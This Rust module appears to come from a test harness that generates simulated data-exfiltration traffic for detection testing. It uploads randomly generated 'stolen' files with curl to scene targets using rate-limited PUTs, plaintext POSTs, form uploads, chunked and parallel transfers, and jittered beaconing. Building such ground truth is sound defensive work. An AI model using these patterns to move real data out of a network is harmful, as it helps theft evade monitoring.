//! Uploads over HTTP and HTTPS, at once, in parts and drop by drop.

use std::time::{Duration, Instant};

use anyhow::Result;

use super::size_and_rate;
use crate::random::Random;
use crate::scene::{Outcome, SINK_PORT, Scene, ensure_arrived};

const CURL: [&str; 5] = ["--silent", "--show-error", "--fail", "--insecure", "--output"];

/// One PUT through TLS, of any size, at any rate.
pub(crate) fn https_put(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, rate) = size_and_rate(random, 20_000, 50_000_000);
    let target = scene.target(random)?;
    let file = scene.document("stolen", &random.document(size))?;
    let url = format!("https://{}/up/{}", target.url_host(), random.word(9));
    let rate_text = rate.to_string();
    scene.run(
        "curl",
        &[
            &CURL[..],
            &[
                "/dev/null",
                target.family_flag(),
                "--limit-rate",
                &rate_text,
                "--upload-file",
                &file,
                &url,
            ],
        ]
        .concat(),
    )?;
    ensure_arrived(size, scene.sunk_bytes("/up/")?)?;
    Ok(Outcome::stolen(
        scene.culprit(&target, "tcp", Some(443))?,
        size,
        format!("{size} bytes at {rate} B/s to {}", target.host),
    ))
}

/// One POST in clear to a bare server on a high port, or to an ordinary one.
pub(crate) fn http_post(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, rate) = size_and_rate(random, 20_000, 30_000_000);
    let target = scene.target(random)?;
    let port = *random.pick(&[SINK_PORT, SINK_PORT, 80]);
    let body = format!("@{}", scene.document("stolen", &random.document(size))?);
    let url = format!("http://{}:{port}/up/{}", target.url_host(), random.word(6));
    let rate_text = rate.to_string();
    let kind = "Content-Type: application/octet-stream";
    scene.run(
        "curl",
        &[
            &CURL[..],
            &[
                "/dev/null",
                target.family_flag(),
                "--limit-rate",
                &rate_text,
                "-H",
                kind,
                "--data-binary",
                &body,
                &url,
            ],
        ]
        .concat(),
    )?;
    ensure_arrived(size, scene.sunk_bytes("/up/")?)?;
    Ok(Outcome::stolen(
        scene.culprit(&target, "tcp", Some(port))?,
        size,
        format!("{size} bytes at {rate} B/s to {}:{port}", target.host),
    ))
}

/// A form with a file in it, as paste and file-sharing sites take.
pub(crate) fn https_form(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let (size, rate) = size_and_rate(random, 20_000, 20_000_000);
    let target = scene.named_target(random)?;
    let part = format!("file=@{}", scene.document("archive.zip", &random.document(size))?);
    let url = format!("https://{}/up/form", target.host);
    let rate_text = rate.to_string();
    scene.run(
        "curl",
        &[&CURL[..], &["/dev/null", "-4", "--limit-rate", &rate_text, "--form", &part, &url]]
            .concat(),
    )?;
    let arrived = scene.sunk_bytes("/up/form")?;
    // The form's own lines around the file.
    anyhow::ensure!(
        (size..size + 1_000).contains(&arrived),
        "{size} bytes were sent in a form and {arrived} arrived"
    );
    Ok(Outcome::stolen(
        scene.culprit(&target, "tcp", Some(443))?,
        size,
        format!("{size} bytes at {rate} B/s to {}", target.host),
    ))
}

/// A file cut in parts, each with a connection of its own and a pause after it.
pub(crate) fn https_chunks(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.target(random)?;
    let parts = random.between(5, 14) as usize;
    let part = random.size(30_000, 1_500_000);
    let file = scene.document("part", &random.document(part))?;
    for number in 0..parts {
        let url = format!("https://{}/up/part-{number}", target.url_host());
        scene.run(
            "curl",
            &[&CURL[..], &["/dev/null", target.family_flag(), "--upload-file", &file, &url]]
                .concat(),
        )?;
        std::thread::sleep(Duration::from_secs_f64(random.uniform(0.05, 0.9)));
    }
    ensure_arrived(part * parts, scene.sunk_bytes("/up/part")?)?;
    Ok(Outcome::stolen(
        scene.culprit(&target, "tcp", Some(443))?,
        part * parts,
        format!("{parts} parts of {part} bytes to {}", target.host),
    ))
}

/// A file cut in parts that leave at the same time, over a connection each.
pub(crate) fn https_parallel(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.target(random)?;
    let parts = random.between(2, 6) as usize;
    let part = random.size(50_000, 4_000_000);
    let file = scene.document("part", &random.document(part))?;
    let url = format!("https://{}/up/part", target.url_host());
    let mut arguments = CURL[..4].to_vec();
    arguments.extend([target.family_flag(), "--parallel", "--http1.1"]);
    (0..parts)
        .for_each(|_| arguments.extend(["--output", "/dev/null", "--upload-file", &file, &url]));
    scene.run("curl", &arguments)?;
    ensure_arrived(part * parts, scene.sunk_bytes("/up/part")?)?;
    Ok(Outcome::stolen(
        scene.culprit(&target, "tcp", Some(443))?,
        part * parts,
        format!("{parts} parts of {part} bytes at once to {}", target.host),
    ))
}

/// A few kilobytes every second or so, with and without jitter.
pub(crate) fn beacon(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let target = scene.target(random)?;
    let period = random.log_uniform(0.3, 1.5);
    let jitter = if random.chance(0.5) { random.uniform(0.0, 0.4) } else { 0.0 };
    let url = format!("http://{}:{SINK_PORT}/up/beacon", target.url_host());
    let (mut sent, start) = (0, Instant::now());
    while start.elapsed().as_secs_f64() < super::LONGEST_SECS {
        let chunk = random.size(400, 8_000);
        let body = format!("@{}", scene.document("chunk", &random.document(chunk))?);
        scene.run(
            "curl",
            &[&CURL[..], &["/dev/null", target.family_flag(), "--data-binary", &body, &url]]
                .concat(),
        )?;
        sent += chunk;
        std::thread::sleep(Duration::from_secs_f64(
            period * (1.0 + random.uniform(-jitter, jitter + f64::EPSILON)),
        ));
    }
    ensure_arrived(sent, scene.sunk_bytes("/up/beacon")?)?;
    let notes =
        format!("{sent} bytes, every {period:.2} s with jitter {jitter:.2} to {}", target.host);
    Ok(Outcome::stolen(scene.culprit(&target, "tcp", Some(SINK_PORT))?, sent, notes))
}
